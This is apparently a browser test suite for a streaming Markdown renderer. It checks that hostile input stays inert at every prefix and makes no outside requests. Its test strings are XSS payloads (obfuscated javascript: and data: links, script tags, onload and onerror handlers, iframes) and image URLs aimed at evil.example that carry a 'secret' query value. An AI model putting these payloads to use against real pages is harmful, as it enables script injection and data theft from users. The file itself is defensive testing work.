"""Hostile Markdown, drawn by the real renderer in Chromium: inert at every prefix of it.

Each text is drawn three times: every prefix of it on its own, as a whole and as one that is still
written, and then by one component while it is streamed. Every element that was ever in the page
is looked at, and every request that the page makes.
"""

import json

import pytest
from playwright.sync_api import expect

pytestmark = pytest.mark.browser

SOURCE = """
import asyncio

import reflex as rx
import streamui as ui


class Lab(rx.State):
    images: bool | list[str] = False
    whole: list[str] = []
    open: list[ui.StreamableValue[str]] = []
    text: ui.StreamableValue[str] = ui.StreamableValue("").done()

    @ui.server_function
    async def prefixes(self, form: dict):
        whole = [form["source"][:end] for end in range(1, len(form["source"]) + 1)]
        open = [ui.StreamableValue(prefix) for prefix in whole]
        async with self:
            self.whole, self.open = whole, open
        await asyncio.Event().wait()

    @ui.server_function
    async def stream(self, form: dict):
        text = ui.StreamableValue("")
        async with self:
            self.text = text
        for character in form["source"]:
            text.append(character)
            yield
            await asyncio.sleep(0.008)


def page(images=False):
    return rx.container(
        rx.form(
            rx.text_area(name="source"), rx.button("prefixes"), on_submit=Lab.prefixes, id="draw"
        ),
        rx.form(rx.text_area(name="source"), rx.button("stream"), on_submit=Lab.stream, id="write"),
        ui.markdown(Lab.text, id="answer", images=images),
        rx.foreach(Lab.whole, lambda text: ui.markdown(text, class_name="whole", images=images)),
        rx.foreach(Lab.open, lambda text: ui.markdown(text, class_name="open", images=images)),
    )


app = rx.App()
app.add_page(page, route="/")
app.add_page(lambda: page(["https://ok.example/img/"]), route="/images")
"""

SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&#115;cript:alert(1)",
    "&#106;&#x61;vascript&colon;alert(1)",
    "java&Tab;script&#58;alert(1)",
    "&#0000001;javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "d&#97;ta:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "blob:https://a.example/x",
    "https:/x",
]
LINKS = "\n".join(
    [
        " ".join(f"[l{number}]({scheme})" for number, scheme in enumerate(SCHEMES)),
        "",
        "# [h](javascript:a) and **[b](javascript:b 'javascript:t')**",
        "",
        "- [x](<java\tscript:a>) <javascript:alert(1)> [r][j] [j]",
        "> [q](\u0001javascript:a) [![i](javascript:c)](data:text/html,x)",
        "",
        "| [t](javascript:d) |",
        "|---|",
        "| [c](data:,e) |",
        "",
        "$\\href{javascript:f}{x}$ \\(\\url{javascript:g}\\) note[^1]",
        "",
        "[j]: javascript:alert(1)",
        "[^1]: [n](javascript:h)",
        "",
        "The end.",
    ]
)
HTML = "\n".join(
    [
        "<script>window.pwned = 1</script> <svg onload='window.pwned = 1'></svg>",
        "",
        "<svg/onload=pwned=1> <iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
        "",
        "Inline <svg onload='pwned = 1'></svg>, *<img src=x onerror=pwned=1>*, <iframe src=//e>.",
        "",
        "<div onclick='pwned=1'>",
        "<img src=x onerror='window.pwned = 1'>",
        "</div>",
        "",
        "- <details open ontoggle=pwned=1>",
        "> <style>@import '//evil.example/s'</style>",
        "",
        "| <iframe src=//evil.example> |",
        "|---|",
        "| <a href='javascript:pwned=1'>x</a><br onload=pwned=1> |",
        "",
        "<!-- --><base href=//evil.example><meta http-equiv=refresh content=0>",
        "",
        "[a](/x '\"onclick=\"pwned=1') `<script>` &lt;script&gt; <form action=//e><input>",
        "",
        "```html",
        "<script>window.pwned = 1</script>",
        "```",
        "",
        "The end.",
    ]
)
IMAGES = "\n".join(
    [
        "![p](https://evil.example/p.png?d=secret) ![r][pic] ![ok](https://ok.example/img/a.png)",
        "",
        "# ![h](//evil.example/h.png 't') [![l](https://evil.example/l.png)](/x)",
        "",
        "- ![o](https://ok.example/img/../o.png) ![u](https://ok.example@evil.example/img/u.png)",
        "> ![d](data:image/svg+xml,<svg/>) ![e](&#104;ttps://evil.example/e.png)",
        "> ![y](https:/img/y.png)",
        "",
        "| ![t](//evil.example/t.png) |",
        "|---|",
        "| <img src=https://evil.example/i.png srcset=//evil.example/s.png> |",
        "",
        "<video poster=https://evil.example/v.png> <link rel=prefetch href=//evil.example>",
        "",
        "$\\includegraphics{https://evil.example/z.png}$ ![f](ftp://evil.example/f.png)",
        "",
        "[pic]: https://evil.example/r.png",
        "",
        "The end.",
    ]
)

# Looks at every element of the Markdown as it comes into the page or changes.
WATCH = """
window.bad = [];
window.changed = performance.now();
const FOREIGN = new Set(
  "SCRIPT IFRAME FRAME STYLE OBJECT EMBED LINK META BASE FORM VIDEO AUDIO SOURCE".split(" "));
const ADDRESSES = new Set(
  "src href xlink:href action formaction poster data srcset srcdoc background ping".split(" "));
const check = (node) => {
  if (!node.closest?.(".streamui-markdown")) return;
  if (FOREIGN.has(node.tagName.toUpperCase())) bad.push(node.outerHTML);
  for (const { name, value } of node.attributes) {
    if (/^on/i.test(name) || (name === "style" && /url|expression/i.test(value)))
      bad.push(node.outerHTML);
    if (!ADDRESSES.has(name)) continue;
    const { protocol } = new URL(value, location);
    const ok = name === "href" && node.tagName === "A" && /^(https?|mailto):$/.test(protocol);
    if (!ok && !(name === "src" && window.allowed?.includes(value))) bad.push(node.outerHTML);
  }
};
new MutationObserver((records) => {
  window.changed = performance.now();
  for (const { type, target, addedNodes } of records) {
    if (type === "attributes") check(target);
    for (const node of addedNodes) {
      if (node.nodeType !== 1) continue;
      check(node);
      node.querySelectorAll("*").forEach(check);
    }
  }
}).observe(document, { subtree: true, childList: true, attributes: true });
"""


@pytest.fixture(scope="module")
def lab(run_app):
    return run_app(SOURCE, STREAMUI_STREAMS_PER_PAGE="0").url


@pytest.fixture
def asked(page):
    """The requests to other hosts; none is let through."""
    asked = []

    def guard(route):
        if "//localhost" in route.request.url:
            route.continue_()
        else:
            asked.append(route.request.url)
            route.abort()

    page.route("**/*", guard)
    page.add_init_script(WATCH)
    return asked


def draw(page, text):
    """Draw every prefix, whole and open."""
    page.locator("#draw textarea").fill(text)
    page.get_by_role("button", name="prefixes").click()
    for kind in ("whole", "open"):
        expect(page.locator(f".{kind}")).to_have_count(len(text), timeout=60_000)
    page.wait_for_function(
        "[...document.querySelectorAll('.open')].at(-1).textContent.includes('The end')"
    )
    page.wait_for_function("performance.now() - window.changed > 500", timeout=60_000)


def stream(page, text):
    """Draw them one after the other in the same place."""
    page.locator("#write textarea").fill(text)
    page.get_by_role("button", name="stream").click()
    answer = page.locator("#answer")
    expect(answer).to_have_attribute("data-status", "streaming")
    expect(answer).to_have_attribute("data-status", "done", timeout=60_000)
    expect(answer).to_contain_text("The end.")


def check(page, address, text, *ways):
    for way in ways:
        page.goto(address)
        way(page, text)
        assert page.evaluate("window.bad") == []
        assert page.evaluate("window.pwned") is None


def test_fault_50_links_with_other_schemes_are_inert_at_every_prefix(page, lab, asked):
    check(page, lab, LINKS, draw, stream)
    addresses = page.locator("#answer a").evaluate_all(
        "links => links.map((link) => link.getAttribute('href').split('-')[0])"
    )
    assert [address for address in addresses if not address.startswith("#")] == []
    expect(page.locator("#answer")).to_contain_text("l0 l1 l2 l3 l4 l5 l6 l7 l8 l9 l10")
    assert asked == []


def test_fault_51_html_is_shown_as_text(page, lab, asked):
    check(page, lab, HTML, stream)
    for source in HTML.split("\n"):
        if source.startswith(("<script", "<svg", "<div", "<img", "<!--")):
            expect(page.locator("#answer")).to_contain_text(source)
    assert asked == []


def test_fault_52_html_that_is_cut_anywhere_is_inert(page, lab, asked):
    check(page, lab, HTML, draw)
    assert asked == []


def test_fault_53_no_image_is_requested_unless_it_is_allowed(page, lab, asked):
    check(page, lab, IMAGES, draw, stream)
    page.wait_for_load_state("networkidle")
    assert asked == []


@pytest.mark.complaints("Failed to load resource: net::ERR_FAILED")
def test_fault_53_an_image_of_an_allowed_place_is_the_only_request(page, lab, asked):
    allowed = "https://ok.example/img/a.png"
    page.add_init_script(f"window.allowed = {json.dumps([allowed])}")
    check(page, f"{lab}/images", IMAGES, stream)
    page.wait_for_load_state("networkidle")
    assert set(asked) == {allowed}
